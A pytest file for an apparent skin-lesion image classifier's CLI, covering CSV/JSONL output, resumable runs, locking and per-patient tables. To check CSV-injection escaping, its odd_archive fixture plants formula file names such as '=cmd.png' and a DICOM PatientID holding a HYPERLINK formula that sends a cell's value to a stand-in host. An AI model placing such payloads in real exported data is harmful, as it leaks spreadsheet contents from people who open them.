import csv
import json
import os
from pathlib import Path

import numpy as np
import pytest
import torch
from filelock import FileLock
from PIL import Image
from typer.testing import CliRunner

from parsecaps.cli import app
from parsecaps.data.preparation import Preparation
from parsecaps.metrics.calibration import Calibration, fit_temperature
from parsecaps.metrics.predictions import Predictions
from parsecaps.model import Model
from parsecaps.models import ParseCaps
from parsecaps.prediction.archive import lock_file, write_patients, write_rows
from parsecaps.prediction.files import find_files
from parsecaps.prediction.predict import predict_files
from tests.data.image_files import grey, write_dicom
from tests.data.make import folder_of_pictures, picture
from tests.messages import message, refused
from tests.prediction.make import predict_one


@pytest.fixture
def model() -> Model:
    model = ParseCaps.from_preset("tiny", num_classes=2, num_concepts=2, in_channels=3)
    return Model(model, Preparation(size=32, channels=3), ("nevus", "melanoma"), ("veil", "streaks"))


@pytest.fixture
def files(tmp_path: Path) -> Path:
    folder_of_pictures(tmp_path / "archive", per_class=4)
    (tmp_path / "archive" / "a" / "broken.png").write_bytes(b"no image")
    frames = [Image.fromarray(picture(i)) for i in range(3)]
    frames[0].save(tmp_path / "archive" / "stack.tiff", save_all=True, append_images=frames[1:])
    return tmp_path / "archive"


def rows_in(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8") as file:
        return list(csv.DictReader(file))


def images(path: Path) -> list[str]:
    if path.suffix == ".csv":
        return [row["image"] for row in rows_in(path)]
    return [json.loads(line)["image"] for line in path.read_text(encoding="utf-8").splitlines()]


def test_every_file_is_a_row_and_a_bad_one_an_error(model: Model, files: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert write_rows(out, model, find_files([files])) == (12, 1)
    rows = rows_in(out)
    assert [row["frame"] for row in rows if row["image"].endswith("stack.tiff")] == ["0", "1", "2"]
    (bad,) = (row for row in rows if row["error"])
    assert bad["image"].endswith("broken.png")
    assert bad["class"] == bad["probability:nevus"] == ""
    for row in rows:
        if not row["error"]:
            image = model.read(row["image"], int(row["frame"]) if row["frame"] else None)
            with torch.no_grad():
                output = model.network.eval()(image.unsqueeze(0))
            shares = output.logits[0].softmax(0)
            assert float(row["probability:melanoma"]) == pytest.approx(float(shares[1]), abs=1e-5)
            assert float(row["concept:veil"]) == pytest.approx(float(output.presence[0, 0]), abs=1e-5)
            assert row["class"] == model.classes[int(shares.argmax())]


def test_a_run_goes_on_where_it_stopped(model: Model, files: Path, tmp_path: Path) -> None:
    for suffix in (".csv", ".jsonl"):
        whole, cut = tmp_path / f"whole{suffix}", tmp_path / f"cut{suffix}"
        write_rows(whole, model, find_files([files]))
        content = whole.read_bytes()
        for end in (len(content) // 2, len(content) - 1, len(content)):
            cut.write_bytes(content[:end])
            write_rows(cut, model, find_files([files]))
            assert images(cut) == images(whole)
            assert len(images(cut)) == 12


def test_other_inputs_do_not_go_into_the_same_file(model: Model, files: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_rows(out, model, find_files([files / "a"]))
    before = out.read_bytes()
    with refused(ValueError):
        write_rows(out, model, find_files([files / "b"]))
    assert out.read_bytes() == before


def test_a_row_is_the_same_whatever_comes_with_it(model: Model, files: Path) -> None:
    items = [item for item in find_files([files]) if not item.error]
    among_others = dict(zip([item.name for item in items], predict_files(model, items), strict=True))
    for item in items[:3]:
        (alone,) = predict_files(model, [item])
        assert alone.probabilities == pytest.approx(among_others[item.name].probabilities, abs=1e-6)


def validation(count: int = 200) -> Predictions:
    random = np.random.default_rng(0)
    label = random.integers(0, 2, count)
    logits = random.normal(0, 1.5, (count, 2))
    logits[np.arange(count), label] += 1
    names = [str(i) for i in range(count)]
    return Predictions(logits=logits, label=label, patient=names, name=names, classes=("nevus", "melanoma"))


def test_a_smaller_risk_abstains_more() -> None:
    cases = validation()
    calibration = Calibration.fit(cases)
    thresholds = [calibration.threshold(risk).probability for risk in (0.05, 0.2, 0.4)]
    assert thresholds == sorted(thresholds)
    assert thresholds[0] < thresholds[2]
    assert calibration.temperature == fit_temperature(cases.logits, cases.label).temperature
    assert calibration.note is None


def test_the_command(model: Model, files: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    model.save(run / "bundle")
    out = tmp_path / "answers.jsonl"

    def predict(*arguments: str) -> tuple[int, str, str]:
        result = CliRunner().invoke(app, ["predict", str(run), str(files), "--out", str(out), *arguments])
        return result.exit_code, result.stdout, result.stderr

    code, _, error = predict("--risk", "0.1")
    assert code == 2
    message(error.splitlines()[-1])
    Calibration.fit(validation()).save(run / "bundle")
    code, text, _ = predict("--risk", "0.1")
    assert code == 0
    assert "12 new rows, 1 with an error" in text
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    for row in rows:
        if not row["error"]:
            assert row["abstain"] == (len(row["set"]) != 1)
    code, text, error = predict("--risk", "0.1", "--device", "cpu")
    assert "0 new rows" in text
    assert error == ""  # no trace of a progress bar where nobody looks
    (tmp_path / "empty").mkdir()
    message(*(item.error for item in find_files([tmp_path / "empty"])))
    code, _, error = predict("--device", "gpu")
    assert code == 2
    message(error.splitlines()[-1])


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_images_of_a_patient_are_read_together(model: Model, files: Path, tmp_path: Path, suffix: str) -> None:
    """Whose an image is, a manifest says; frames of one file belong together, and other images stand alone."""
    manifest = tmp_path / "archive.csv"
    lines = ["image,label,patient", *(f"archive/a/{i}.png,nevus,{'ann' if i else 'bob'}" for i in range(4))]
    manifest.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rows, out = tmp_path / f"rows{suffix}", tmp_path / "patients.csv"
    inputs = [manifest, files / "stack.tiff", files / "b" / "0.png", files / "a" / "broken.png"]
    write_rows(rows, model, find_files(inputs))
    assert write_patients(out, rows) == 5
    found = rows_in(out)
    assert [(row["patient"], Path(row["file"]).name, row["images"], row["errors"]) for row in found] == [
        ("bob", "", "1", "0"),
        ("ann", "", "3", "0"),
        ("", "stack.tiff", "3", "0"),
        ("", "0.png", "1", "0"),
        ("", "broken.png", "0", "1"),
    ]
    said = [predict_one(model, files / "a" / f"{i}.png").probabilities for i in (1, 2, 3)]
    for name in model.classes:
        mean = float(np.mean([each[name] for each in said]))
        assert float(found[1][f"probability:{name}"]) == pytest.approx(mean, abs=1e-5)
    assert found[1]["class"] == max(model.classes, key=lambda name: float(found[1][f"probability:{name}"]))
    assert found[4]["class"] == found[4]["probability:nevus"] == ""


def test_predict_writes_patients(model: Model, files: Path, tmp_path: Path) -> None:
    model.save(tmp_path / "model")
    out, whose = tmp_path / "out.csv", tmp_path / "patients.csv"
    command = ["predict", str(tmp_path / "model"), str(files), "--out", str(out), "--patients"]
    for _ in range(2):  # the second time all rows are there
        result = CliRunner().invoke(app, [*command, str(whose)])
        assert result.exit_code == 0, result.stderr
        assert f"{whose}: 10 patients" in result.stdout.replace("\n", "")
        assert len(rows_in(whose)) == 10  # the three frames together, and the nine others
    refused = CliRunner().invoke(app, [*command, str(out)])
    assert refused.exit_code == 2
    message(refused.stderr.splitlines()[-1])


def odd_archive(folder: Path) -> int:
    """Pictures with names that break tables; gives how many."""
    folder.mkdir()
    given = [b"=cmd.png", b"a\rb.png", b"c\nd.png", b"caf\xe9.png", b"e;=f.png", b'g,"h".png', b"[b].png"]
    for i, name in enumerate(given):
        try:
            with open(os.path.join(os.fsencode(folder), name), "wb") as file:
                Image.fromarray(picture(i)).save(file, format="PNG")
        except OSError:
            pytest.skip("this file system has only names in UTF-8")
    write_dicom(folder / "z", grey(32, 32), PatientID='=HYPERLINK("http://x.y/?"&A1,"z")')
    return len(given) + 1


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_any_name_is_a_row_and_can_be_resumed(
    model: Model, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str
) -> None:
    count = odd_archive(tmp_path / "archive")
    monkeypatch.chdir(tmp_path / "archive")  # so that a cell begins with a name
    inputs = sorted(os.listdir())
    whole, cut, whose = (tmp_path / name for name in (f"whole{suffix}", f"cut{suffix}", "patients.csv"))
    assert write_rows(whole, model, find_files(inputs)) == (count, 0)
    content = whole.read_bytes()
    assert len(content.decode("utf-8").splitlines()) == count + (suffix == ".csv")
    for end in range(0, len(content) + 1, len(content) // 40):
        cut.write_bytes(content[:end])
        write_rows(cut, model, find_files(inputs))
        assert images(cut) == images(whole)
        assert len(cut.read_bytes().splitlines()) == len(content.splitlines())
    assert write_patients(whose, whole) == count
    for path in (whose, *([whole] if suffix == ".csv" else [])):
        for row in rows_in(path):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
    found = rows_in(whose)
    assert [row["file"] for row in found if not row["patient"]] == [
        "'=cmd.png",
        "[b].png",
        "a\\x0db.png",
        "c\\x0ad.png",
        "caf\\xe9.png",
        "e;'=f.png",
        'g,"h".png',
    ]
    assert found[-1]["patient"] == '\'=HYPERLINK("http://x.y/?"&A1,"z")'
    if suffix == ".jsonl":
        assert images(whole) == inputs  # as they are on disk


def test_a_table_from_before_names_were_written_safely_goes_on(model: Model, files: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    for name in ("+x.png", "+y.png"):
        Image.fromarray(picture(1)).save(tmp_path / name)
    write_rows(out, model, find_files([tmp_path / "+x.png"]))
    out.write_text(out.read_text(encoding="utf-8").replace("'+", "+"), encoding="utf-8")
    assert write_rows(out, model, find_files([tmp_path / "+x.png", tmp_path / "+y.png"])) == (1, 0)


def test_odd_names_of_classes(files: Path, tmp_path: Path) -> None:
    network = ParseCaps.from_preset("tiny", num_classes=2, num_concepts=1, in_channels=3)
    odd = Model(network, Preparation(size=32, channels=3), ("=1+1", "m\udce9lanome"), ("a\nb",))
    out, whose = tmp_path / "out.csv", tmp_path / "patients.csv"
    for _ in range(2):
        write_rows(out, odd, find_files([files]))
        write_patients(whose, out)
    rows = rows_in(out)
    assert len(rows) == 12
    assert list(rows[0])[4:7] == ["probability:=1+1", "probability:m\\xe9lanome", "concept:a\\x0ab"]
    for row in (*rows, *rows_in(whose)):
        assert row["class"] in ("'=1+1", "m\\xe9lanome", "")
    assert all(float(row["concept:a\\x0ab"]) > 0 for row in rows if not row["error"])


def test_a_file_that_is_no_table_of_answers_stays_as_it_is(model: Model, files: Path, tmp_path: Path) -> None:
    for name, content in {
        "own.csv": "name,age\nann,71\nbob,3",
        "line.csv": "no table",
        "own.jsonl": '{"name": "ann"}\n{"name": "bob"}',
        "list.jsonl": "[1]\n[2",
        "text.jsonl": "hello",
    }.items():
        path = tmp_path / name
        path.write_text(content, encoding="utf-8")
        with refused(ValueError):
            write_rows(path, model, find_files([files]))
        assert path.read_text(encoding="utf-8") == content
    moved = Model(model.network, model.preparation, model.classes[::-1], model.concepts)
    write_rows(tmp_path / "out.csv", model, find_files([files]))
    with refused(ValueError):
        write_rows(tmp_path / "out.csv", moved, find_files([files]))


def test_one_process_writes_a_table(model: Model, files: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    (tmp_path / "other.csv").symlink_to(out)
    with FileLock(lock_file(out)):
        for path in (out, tmp_path / "other.csv"):
            with refused(ValueError):
                write_rows(path, model, find_files([files]))
        assert not out.exists()
    assert write_rows(out, model, find_files([files])) == (12, 1)
    assert not lock_file(out).exists()


def test_the_command_says_what_it_left_out(model: Model, files: Path, tmp_path: Path) -> None:
    model.save(tmp_path / "model")
    for name in (".DS_Store", "[red]notes.txt", "[b]"):
        (files / name).write_bytes(b"x")
    out, numbers = files / "answers.csv", tmp_path / "numbers.json"
    for _ in range(2):  # neither the table nor its lock is named
        command = ["predict", str(tmp_path / "model"), str(files), "--out", str(out), "--json", str(numbers)]
        result = CliRunner().invoke(app, command)
        assert result.exit_code == 0, result.stderr
        last = result.stdout.splitlines()[-1]
        message(last)
        stored = json.loads(numbers.read_text(encoding="utf-8"))
        assert stored["left_out"] == {"count": 3, "names": [".DS_Store", "[b]", "[red]notes.txt"]}
